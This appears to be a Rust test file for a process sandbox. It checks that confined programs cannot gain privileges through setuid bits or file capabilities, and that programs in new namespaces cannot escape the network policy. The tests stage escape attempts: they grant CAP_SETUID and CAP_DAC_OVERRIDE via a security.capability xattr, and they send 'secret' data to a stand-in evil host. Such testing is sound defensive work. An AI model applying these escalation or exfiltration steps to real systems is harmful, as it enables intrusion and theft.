//! What would give the app more than it was started with.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use crate::yard::{Ground, Outcome, compile, confined, is_possible, is_root, not_tested, run_on};

#[test]
fn test_22_no_new_privileges() {
    if is_possible() {
        let ran =
            confined("print([l.strip() for l in open('/proc/self/status') if l.startswith(('NoNewPrivs', 'CapBnd', 'CapEff'))])");
        ran.went_well().said(r"['CapEff:\t0000000000000000', 'CapBnd:\t0000000000000000', 'NoNewPrivs:\t1']");
    }
}

/// Runs each of these as nobody, who was root before.
fn as_nobody(confined: bool, programs: &[&str]) -> Outcome {
    let python = r#"
import subprocess, sys
for program in sys.argv[1:]:
    try: subprocess.run([program], user=65534, group=65534, extra_groups=[], check=True)
    except PermissionError: print("refused", flush=True)
"#;
    run_on(Ground::Root, confined, &[&["/usr/bin/python3", "-c", python], programs].concat())
}

/// A program of root's that takes its user along, and two that have capabilities of their own, as sudo and ping may be. Of the
/// capabilities of the last one the app's processes can have none, so that it is not even started (capabilities(7)).
#[test]
fn test_22_programs_that_are_more_than_who_starts_them() {
    if !is_possible() {
        return;
    }
    if !is_root() {
        return not_tested("only root makes programs that are more than who starts them");
    }
    let programs =
        ["gains-nothing", "gains-user", "gains-file", "gains-raw"].map(|name| compile(name, include_str!("attacks/gains.c")));
    let [_, user, file, raw] = &programs;
    fs::set_permissions(user, fs::Permissions::from_mode(0o4755)).expect("a set-user-ID program");
    give_capabilities(file, 1 << CAP_SETUID | 1 << CAP_DAC_OVERRIDE);
    give_capabilities(raw, 1 << CAP_NET_RAW);
    let programs = programs.each_ref().map(|path| path.to_str().expect("a name"));
    let control = as_nobody(false, &programs);
    let gained = [
        "user 0 capabilities 0 raw 0",
        "user 1 capabilities 1 raw 1",
        "user 0 capabilities 1 raw 0",
        "user 0 capabilities 1 raw 1",
    ];
    if control.went_well().stdout.lines().ne(gained) {
        return not_tested(&format!("such programs gain nothing here anyway: {control:#?}"));
    }
    let ran = as_nobody(true, &programs);
    ran.went_well();
    assert_eq!(ran.stdout, format!("{}refused\n", "user 0 capabilities 0 raw 0\n".repeat(3)), "{ran:#?}");
}

const CAP_DAC_OVERRIDE: u32 = 1;
const CAP_SETUID: u32 = 7;
const CAP_NET_RAW: u32 = 13;

/// Effective at once (struct vfs_cap_data of linux/capability.h).
fn give_capabilities(program: &Path, capabilities: u32) {
    const REVISION_2: u32 = 0x0200_0000;
    const EFFECTIVE: u32 = 1;
    let words = [REVISION_2 | EFFECTIVE, capabilities, 0, 0, 0];
    let value = words.map(u32::to_le_bytes).concat();
    rustix::fs::setxattr(program, "security.capability", &value, rustix::fs::XattrFlags::empty()).expect("capabilities");
}

/// A process in namespaces of its own is asked for and judged like any other, and its sockets are in the supervisor's network.
#[test]
fn test_23_namespaces_of_its_own() {
    if !is_possible() {
        return;
    }
    let ran = confined(
        r#"
USER, NET, MOUNTS, PIDS = 0x10000000, 0x40000000, 0x00020000, 0x20000000
def attempt(name):
    s = tcp(); evil = outcome(s.connect, EVIL); udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s = tcp(); s.connect(GOOD); sent = outcome(udp.sendto, b"secret", EVIL), outcome(udp.sendmsg, [b"secret"], [], 0, EVIL)
    print(name, evil, greeting(s), *sent, outcome(socket.socket, socket.AF_INET, socket.SOCK_RAW, 1), outcome(socket.socket, socket.AF_PACKET, socket.SOCK_RAW, 0), flush=True)
    os._exit(0)
sys.stdout.flush()
for name, flags in (("net", NET), ("mounts", MOUNTS), ("pids", PIDS), ("all", NET | MOUNTS | PIDS)):
    if os.fork() == 0:
        if libc.unshare(USER | flags): print("refused", name); sys.stdout.flush(); os._exit(0)
        if os.fork() == 0: attempt("unshare " + name)
        os.wait(); os._exit(0)
    os.wait()
    child = libc.syscall(SYS.clone, USER | flags | signal.SIGCHLD, 0, 0, 0, 0)
    if child == 0: attempt("clone " + name)
    if child < 0: print("refused", name)
    else: os.wait()
s = tcp(); print("after", outcome(s.connect, EVIL)); s.connect(GOOD); print(greeting(s))
number = os.open("/proc/self/ns/net", os.O_RDONLY)
print("setns", libc.setns(number, 0), errno.errorcode[ctypes.get_errno()])
"#,
    );
    ran.went_well().said("after EACCES").said("203.0.113.7:443").said("setns -1 EPERM");
    if ran.stdout.contains("refused") {
        return not_tested(&format!("no namespaces of users here: {}", ran.stdout));
    }
    for name in ["net", "mounts", "pids", "all"] {
        for how in ["unshare", "clone"] {
            ran.said(&format!("{how} {name} EACCES 203.0.113.7:443 EACCES EPIPE EPROTONOSUPPORT EAFNOSUPPORT"));
        }
    }
}
